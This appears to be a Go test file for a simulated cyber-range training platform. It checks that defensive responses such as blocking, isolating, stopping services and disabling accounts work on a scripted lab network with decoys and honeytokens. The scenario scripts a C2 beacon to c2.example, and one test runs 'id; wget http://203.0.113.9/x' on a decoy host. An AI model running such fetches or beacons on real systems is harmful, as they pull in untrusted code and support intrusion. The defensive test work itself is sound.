package exercise

import (
	"context"
	"encoding/json"
	"errors"
	"net"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/crypto/ssh"

	"github.com/lapwing-defence/lapwing/internal/exercise/scenario"
	"github.com/lapwing-defence/lapwing/internal/exercise/score"
)

const townFile = `
range: "1"
id: town
name: A town
duration: 1h
clock: {mode: real}
seed: 5
variables:
  pass: {type: password}
networks:
  outside: {cidr: 198.51.100.0/25, gateway: edge}
  lan: {cidr: 10.9.1.0/24, gateway: edge}
routers:
  edge: {default: allow}
hosts:
  red: {network: outside, ip: 198.51.100.7, persona: linux-6, roles: [red]}
  web:
    network: lan
    ip: 10.9.1.10
    persona: linux-6
    services:
      - {port: tcp/80, type: http, site: intranet}
      - {port: tcp/22, type: ssh, accept: [admin]}
    files: [{path: /srv/bait.txt, content: bait, honeytoken: bait}]
  vault: {network: lan, ip: 10.9.1.40, persona: linux-5, decoy: true, services: [{port: tcp/22, type: ssh, accept: [planted]}]}
  desk: {network: lan, ip: 10.9.1.30, persona: windows-10, user: k.dietz}
  tap: {network: lan, ip: 10.9.1.200, persona: linux-6, roles: [blue], access: [socks5]}
credentials:
  admin: {user: admin, password: "${vars.pass}"}
  planted: {user: keeper, password: "planted-${vars.pass}", decoy: true}
tokens:
  planted: {kind: credential}
  bait: {kind: file}
adversary:
  steps:
    - id: login
      technique: {attack_id: T1078, name: Valid Accounts}
      tactic: initial-access
      from: red
      action: ssh.login
      target: {host: web}
      args: {credential: admin, commands: [id]}
      at: 2s
      on_failure: stop
      expect: {level: technique, within: 10m}
    - id: beacon
      technique: {attack_id: T1071.001, name: Web Protocols}
      tactic: command-and-control
      from: web
      action: http.get
      target: {external: c2.example}
      expect: {level: general, within: 10m}
training:
  levels:
    - {id: host, type: response, answer: {state: {host: web, isolated: true}}, points: 1}
    - {id: address, type: response, answer: {state: {blocked: red}}, points: 1}
    - {id: service, type: response, answer: {state: {stopped: web/tcp/80}}, points: 1}
    - {id: account, type: response, answer: {state: {disabled: admin}}, points: 1}
    - {id: password, type: response, answer: {state: {password_changed: admin}}, points: 1}
    - {id: file, type: question, answer: {state: {host: web, read: /srv/bait.txt}}, points: 1}
`

func town(t *testing.T, from Snapshot) *Live {
	t.Helper()
	sc, err := scenario.Load("town", strings.NewReader(townFile))
	if err == nil {
		sc, err = sc.For("anna")
	}
	if err != nil {
		t.Fatal(err)
	}
	l, err := Start(t.Context(), sc, LiveConfig{From: from})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(l.Close)
	return l
}

// reaches dials from a host. Silence is waited for a minute where an answer is
// wanted, else a second.
func (l *Live) reaches(t *testing.T, from, to string, want bool) bool {
	t.Helper()
	patience := time.Second
	if want {
		patience = time.Minute
	}
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	c, err := l.lab.hosts[from].net.Dialer().DialContext(ctx, "tcp", to)
	if err != nil {
		return false
	}
	c.Close()
	return true
}

// logsIn tries a password by SSH.
func (l *Live) logsIn(t *testing.T, from, password string) bool {
	t.Helper()
	c, err := l.shell(t, from, "10.9.1.10:22", "admin", password)
	if err == nil {
		c.Close()
	}
	return err == nil
}

func (l *Live) shell(t *testing.T, from, to, user, password string) (*ssh.Client, error) {
	t.Helper()
	c, err := l.lab.hosts[from].net.Dialer().DialContext(t.Context(), "tcp", to)
	if err != nil {
		t.Fatal(err)
	}
	conn, chans, reqs, err := ssh.NewClientConn(c, "host", &ssh.ClientConfig{User: user, Auth: []ssh.AuthMethod{ssh.Password(password)}, HostKeyCallback: ssh.InsecureIgnoreHostKey()})
	if err != nil {
		c.Close()
		return nil, err
	}
	return ssh.NewClient(conn, chans, reqs), nil
}

func (l *Live) ordered(t *testing.T, kind score.Kind, what string, lift bool) string {
	t.Helper()
	_, note, err := l.Respond(Order{Kind: kind, What: what, Lift: lift})
	if err != nil {
		t.Fatalf("%s %s: %v", kind, what, err)
	}
	return note
}

func (l *Live) holds(level string) bool {
	for i := range l.x.sc.Training.Levels {
		if v := &l.x.sc.Training.Levels[i]; v.ID == level {
			return l.Holds(v.Answer.State)
		}
	}
	return false
}

func TestResponses(t *testing.T) {
	t.Parallel()
	l := town(t, Snapshot{})
	both := func(what string, red, desk bool) {
		t.Helper()
		if got := l.reaches(t, "red", "10.9.1.10:80", red); got != red {
			t.Errorf("%s: red reaches web: %v", what, got)
		}
		if got := l.reaches(t, "desk", "10.9.1.10:80", desk); got != desk {
			t.Errorf("%s: desk reaches web: %v", what, got)
		}
	}
	both("before", true, true)
	for _, tt := range []struct {
		kind        score.Kind
		what, level string
		red, desk   bool
	}{
		{score.Block, "198.51.100.7", "address", false, true},
		{score.Block, "RED", "address", false, true},
		{score.Stop, "web/tcp/80", "service", false, false},
		{score.Isolate, "10.9.1.10", "host", false, false},
	} {
		if l.holds(tt.level) {
			t.Errorf("%s before it was done", tt.level)
		}
		l.ordered(t, tt.kind, tt.what, false)
		l.ordered(t, tt.kind, tt.what, false) // twice is once
		both(tt.level, tt.red, tt.desk)
		if !l.holds(tt.level) {
			t.Errorf("%s is not done", tt.level)
		}
		l.ordered(t, tt.kind, tt.what, true)
		both(tt.level+" lifted", true, true)
		if l.holds(tt.level) {
			t.Errorf("%s was taken back", tt.level)
		}
	}
	done, _ := l.Responses()
	if len(done) != 4 {
		t.Errorf("%d responses were kept: %+v", len(done), done)
	}
	if l.ordered(t, score.Stop, "web/tcp/22", false); l.reaches(t, "desk", "10.9.1.10:22", false) || !l.reaches(t, "desk", "10.9.1.10:80", true) {
		t.Error("one service of two is stopped")
	}
}

// A connection that stands when an address is blocked carries nothing more.
func TestBlockEndsConnections(t *testing.T) {
	t.Parallel()
	l := town(t, Snapshot{})
	ask := func(c net.Conn) error {
		if _, err := c.Write([]byte("GET / HTTP/1.1\r\nHost: web\r\n\r\n")); err != nil {
			return err
		}
		c.SetReadDeadline(time.Now().Add(2 * time.Second))
		_, err := c.Read(make([]byte, 1))
		return err
	}
	c, err := l.lab.hosts["red"].net.Dialer().DialContext(t.Context(), "tcp", "10.9.1.10:80")
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	l.ordered(t, score.Block, "red", false)
	if err := ask(c); err == nil {
		t.Error("an answer came through the block")
	}
}

func TestAccounts(t *testing.T) {
	t.Parallel()
	l := town(t, Snapshot{})
	old := l.x.sc.Credentials[0].Password
	if !l.logsIn(t, "desk", old) {
		t.Fatal("admin cannot log in")
	}
	l.ordered(t, score.Disable, "ADMIN", false)
	if l.logsIn(t, "desk", old) || !l.holds("account") {
		t.Error("a disabled account lets in")
	}
	l.ordered(t, score.Disable, "admin", true)
	if !l.logsIn(t, "desk", old) || l.holds("account") {
		t.Error("an account that was enabled again does not let in")
	}
	now := l.ordered(t, score.Change, "admin", false)
	if len(now) < 10 || l.logsIn(t, "desk", old) || !l.logsIn(t, "desk", now) || !l.holds("password") {
		t.Errorf("the new password is %q", now)
	}
	if _, _, err := l.Respond(Order{Kind: score.Change, What: "admin", Lift: true}); !errors.Is(err, ErrLift) {
		t.Errorf("the old password back: %v", err)
	}
	l.ordered(t, score.Stop, "web/tcp/80", false)
	l.ordered(t, score.Block, "red", false)

	// All of it stands after a restart.
	text, err := json.Marshal(l.Snapshot())
	if err != nil {
		t.Fatal(err)
	}
	var from Snapshot
	if err := json.Unmarshal(text, &from); err != nil {
		t.Fatal(err)
	}
	l.Close()
	l = town(t, from)
	if l.logsIn(t, "desk", old) || !l.logsIn(t, "desk", now) || l.reaches(t, "desk", "10.9.1.10:80", false) || l.reaches(t, "red", "10.9.1.10:22", false) {
		t.Error("after a restart something is not as it was")
	}
	l.ordered(t, score.Stop, "web/tcp/80", true)
	if !l.reaches(t, "desk", "10.9.1.10:80", true) {
		t.Error("the service cannot be started after a restart")
	}
}

func TestOrdersThatAreNone(t *testing.T) {
	t.Parallel()
	l := town(t, Snapshot{})
	for _, tt := range []struct {
		kind score.Kind
		what string
		want error
	}{
		{score.Isolate, "nosuch", ErrNoHost},
		{score.Isolate, "tap", ErrOwn},
		{score.Isolate, "10.9.1.200", ErrOwn},
		{score.Isolate, "", ErrNoHost},
		{score.Block, "8.8.8.8", ErrNoAddress},
		{score.Block, "nosuch", ErrNoAddress},
		{score.Block, "10.9.1.254", ErrOwn},
		{score.Block, "tap", ErrOwn},
		{score.Block, "", ErrNoAddress},
		{score.Stop, "web", ErrNoService},
		{score.Stop, "web/tcp/81", ErrNoService},
		{score.Stop, "nosuch/tcp/80", ErrNoHost},
		{score.Stop, "web/udp/80", ErrNoService},
		{score.Disable, "nobody", ErrNoAccount},
		{score.Change, "", ErrNoAccount},
		{"shout", "web", ErrKind},
	} {
		if _, _, err := l.Respond(Order{Kind: tt.kind, What: tt.what}); !errors.Is(err, tt.want) {
			t.Errorf("%s %q: %v, want %v", tt.kind, tt.what, err, tt.want)
		}
	}
	if done, _ := l.Responses(); len(done) > 0 {
		t.Errorf("something was done: %+v", done)
	}
}

// Who acts in time prevents: the step that fails, and those that needed it.
func TestPreventedInTime(t *testing.T) {
	t.Parallel()
	for kind, what := range map[score.Kind]string{score.Disable: "admin", score.Block: "198.51.100.7", score.Stop: "web/tcp/22", score.Isolate: "web"} {
		t.Run(string(kind), func(t *testing.T) {
			t.Parallel()
			l := town(t, Snapshot{})
			l.ordered(t, kind, what, false)
			l.Run(true)
			var p *Played
			for until := time.Now().Add(3 * time.Minute); ; time.Sleep(50 * time.Millisecond) {
				if p = l.Played(nil); p.Result.Prevented == 2 {
					break
				}
				if time.Now().After(until) {
					t.Fatalf("%d of 2 steps prevented: %+v", p.Result.Prevented, p.Result.Steps)
				}
			}
			if p.Result.Missed != 0 || p.Result.Met != 2 {
				t.Errorf("%d missed, %d met", p.Result.Missed, p.Result.Met)
			}
			met := 0
			for _, g := range p.Result.Goals {
				if g.Met {
					met++
				}
			}
			want := 1
			if kind == score.Stop {
				want = 0 // another service is to be stopped
			}
			if met != want || len(p.Result.Goals) != 5 {
				t.Errorf("%d of %d goals met: %+v", met, len(p.Result.Goals), p.Result.Goals)
			}
		})
	}
}

// The trainee reads the bait: his own doing, and the answer to a level.
func TestReadFile(t *testing.T) {
	t.Parallel()
	l := town(t, Snapshot{})
	if l.holds("file") {
		t.Fatal("it was not read yet")
	}
	c, err := l.shell(t, "tap", "10.9.1.10:22", "admin", l.x.sc.Credentials[0].Password)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if out, err := s.Output("cat /srv/bait.txt"); string(out) != "bait" || err != nil {
		t.Fatalf("%q %v", out, err)
	}
	for until := time.Now().Add(2 * time.Minute); !l.holds("file"); time.Sleep(20 * time.Millisecond) {
		if time.Now().After(until) {
			t.Fatal("the file was read, and nobody noticed")
		}
	}
	if got := l.Snapshot().Read; len(got) != 1 || got[0] != "bait" {
		t.Errorf("kept: %v", got)
	}
}

// A trainee who uses the planted credential himself, and types on the decoy, gives
// nobody away and raises no false alarm.
func TestOwnLoginsAreNeutral(t *testing.T) {
	t.Parallel()
	l := town(t, Snapshot{})
	c, err := l.shell(t, "tap", "10.9.1.40:22", "keeper", l.x.sc.Credentials[1].Password)
	if err != nil {
		t.Fatal(err)
	}
	s, err := c.NewSession()
	if err != nil {
		t.Fatal(err)
	}
	if out, err := s.Output("id; wget http://203.0.113.9/x"); err != nil && len(out) == 0 {
		t.Fatal(err)
	}
	c.Close()
	var p *Played
	for until := time.Now().Add(2 * time.Minute); ; time.Sleep(50 * time.Millisecond) {
		p = l.Played(nil)
		planted := slices.ContainsFunc(p.Result.Alerts, func(a score.AlertResult) bool { return strings.HasPrefix(a.RuleName, "Planted Credential") })
		if planted && len(p.Result.Alerts) >= 3 {
			break
		}
		if time.Now().After(until) {
			t.Fatalf("in two minutes the rules have said no more than %+v", p.Result.Alerts)
		}
	}
	for _, a := range p.Result.Alerts {
		if a.Verdict != score.Neutral {
			t.Errorf("%s is %s: %s", a.RuleName, a.Verdict, a.Why)
		}
	}
	if p.Result.FalseAlarms != 0 || p.Result.Metrics.NeutralAlerts != len(p.Result.Alerts) {
		t.Errorf("%d false alarms, %d neutral ones of %d", p.Result.FalseAlarms, p.Result.Metrics.NeutralAlerts, len(p.Result.Alerts))
	}
}
